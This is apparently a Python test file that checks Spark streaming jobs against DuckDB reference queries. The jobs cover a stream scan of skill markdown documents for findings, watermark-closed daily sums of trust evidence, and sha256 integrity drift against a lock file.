def fleet_inventory(spark, sf_dir):
    return fleet.inventory(_rows(spark, sf_dir, fx.FLEET_PATHS))


def _stream(spark: SparkSession, sf_dir: str, table: str) -> DataFrame:
    path = f"{sf_dir}/{table}.parquet"
    return streams.table_stream(spark, path, spark.read.parquet(path).schema)


def _finished(spark: SparkSession, stream: DataFrame, label: str) -> DataFrame:
    folder = _new_folder(spark, label)
    streams.run_once(stream, folder)
    return spark.read.schema(stream.schema).parquet(f"{folder}/rows")


@case("stream_scan", o.scan(f"SELECT {o.HIT_COLUMNS} FROM findings"))
def stream_scan(spark, sf_dir):
    """The corpus arriving as a stream gives the findings of the batch scan."""
    texts = fx.null_free(fx.SKILL_CORPUS).replace("FROM documents", "FROM {arriving}")
    corpus = spark.sql(texts, arriving=_stream(spark, sf_dir, "documents"))
    rows = corpus.select(
        "seq",
        "version",
        "format",
        F.concat("name", F.lit(".md")).alias("path"),
        F.col("raw_content").alias("content"),
        F.filter(F.split("declared", ","), lambda d: d != "").alias("declared_capabilities"),
    )
    return _finished(spark, streams.findings_stream(skills_from_markdown(rows)), "stream-scan")


@case(
    "stream_evidence",
    o.with_(("evidence", fx.TRUST_EVIDENCE))
    + "SELECT strftime(date_trunc('day', ts), '%Y-%m-%d') AS day, node, signal, round(sum(delta), 6) AS delta, count(*) AS pieces FROM evidence"
    " WHERE signal <> 'unknown' AND delta >= 0 GROUP BY ALL"
    " HAVING max(date_trunc('day', ts)) + INTERVAL 1 DAY <= (SELECT max(ts) - INTERVAL 1 HOUR FROM evidence WHERE signal <> 'unknown' AND delta >= 0)",
)
def stream_evidence(spark, sf_dir):
    """Daily sums of the days that the watermark has closed."""
    evidence = spark.sql(fx.TRUST_EVIDENCE.replace("FROM events", "FROM {arriving}"), arriving=_stream(spark, sf_dir, "events"))
    done = _finished(spark, streams.evidence_stream(evidence), "stream-evidence")
    days = F.floor(F.unix_seconds("window_start") / 86_400).cast("int")
    day = F.date_add(F.lit("1970-01-01").cast("date"), days).cast("string")
    return done.select(day.alias("day"), "node", "signal", F.round("delta", 6).alias("delta"), "pieces")


@case(
    "stream_drift",
    o.with_(("old", fx.duck_sql(fx.LOCK_OLD)))
    + "SELECT d.name, coalesce(old.integrity = 'sha256:' || sha256(d.content), false) AS intact FROM"
    " (SELECT 'skill-' || doc_id AS name, CASE lang WHEN 'de' THEN text || '!' ELSE text END AS content FROM documents) d LEFT JOIN old USING (name)",
)
def stream_drift(spark, sf_dir):
    locked = fx.derive(spark, sf_dir, fx.spark_sql(fx.LOCK_OLD))
    arriving = _stream(spark, sf_dir, "documents").select(
        F.concat(F.lit("skill-"), F.col("doc_id")).alias("name"),
        F.when(F.col("lang") == "de", F.concat("text", F.lit("!"))).otherwise(F.col("text")).alias("content"),
    )
    return _finished(spark, streams.drift_stream(arriving, locked), "stream-drift")
